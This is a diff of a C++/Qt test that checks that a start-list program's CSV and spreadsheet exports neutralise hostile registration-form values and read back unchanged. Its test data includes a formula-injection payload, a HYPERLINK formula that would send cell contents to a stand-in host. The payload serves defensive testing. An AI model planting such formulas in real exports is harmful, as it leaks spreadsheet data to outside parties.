@@ -3,6 +3,7 @@
 
 #include "app/ClubRace.h"
 #include "gridstore/CellStore.h"
+#include "gridstore/GridCommaText.h"
 #include "gridstore/GridCsvText.h"
 #include "protocol/Columns.h"
 #include "protocol/ExcelExport.h"
@@ -141,8 +142,9 @@ private slots:
 
     // What a registration form may put into a start list: a spreadsheet
     // opening the CSV export shows each of these as the text it is (a
-    // formula-like one at most with its protective apostrophe), computes no
-    // formula and shifts no column; the program reads the file back as it was.
+    // formula-like one at most with its protective apostrophe, a TAB or line
+    // break as the blank the writer puts in its place), computes no formula
+    // and shifts no column; the program reads the file back as it was.
     void csv_opensWithTextCellsOnly_andNothingShifted()
     {
         const QStringList hostile { QStringLiteral("=HYPERLINK(\"http://example.invalid/?x=\"&A1;\"klick\")"),
@@ -178,10 +180,8 @@ private slots:
             = sheetTexts(sheet, ReadZipEntry(xlsx, QStringLiteral("xl/sharedStrings.xml")));
         for (int i = 0; i < hostile.size(); ++i) {
             const QString row = QString::number(i + 2);
-            QString shown = texts.value(QStringLiteral("B") + row);
-            shown.replace(QLatin1String("\r\n"), QLatin1String("\n"));
-            QString expected = hostile[i];
-            expected.replace(QLatin1String("\r\n"), QLatin1String("\n"));
+            const QString shown = texts.value(QStringLiteral("B") + row);
+            const QString expected = WithoutCellBreaks(hostile[i]);
             QVERIFY2(shown == expected || shown == QLatin1Char('\'') + expected,
                 qPrintable(QStringLiteral("B%1: %2").arg(row, shown)));
             // Nothing shifted: the start time is still in column C.
@@ -193,8 +193,11 @@ private slots:
         const std::optional<protocol::LoadedProtocol> loaded = protocol::LoadProtocolText(csv);
         QVERIFY(loaded && loaded->ok());
         QCOMPARE(int(loaded->rows.size()), int(hostile.size()));
-        for (int i = 0; i < hostile.size(); ++i)
-            QCOMPARE(loaded->rows[size_t(i)], cells.Row(i + 1));
+        for (int i = 0; i < hostile.size(); ++i) {
+            QStringList row = cells.Row(i + 1);
+            row[protocol::kColName] = TrimBlanks(WithoutCellBreaks(row[protocol::kColName]));
+            QCOMPARE(loaded->rows[size_t(i)], row);
+        }
     }
 
     void workbook_opensWithEveryNameAndTime()
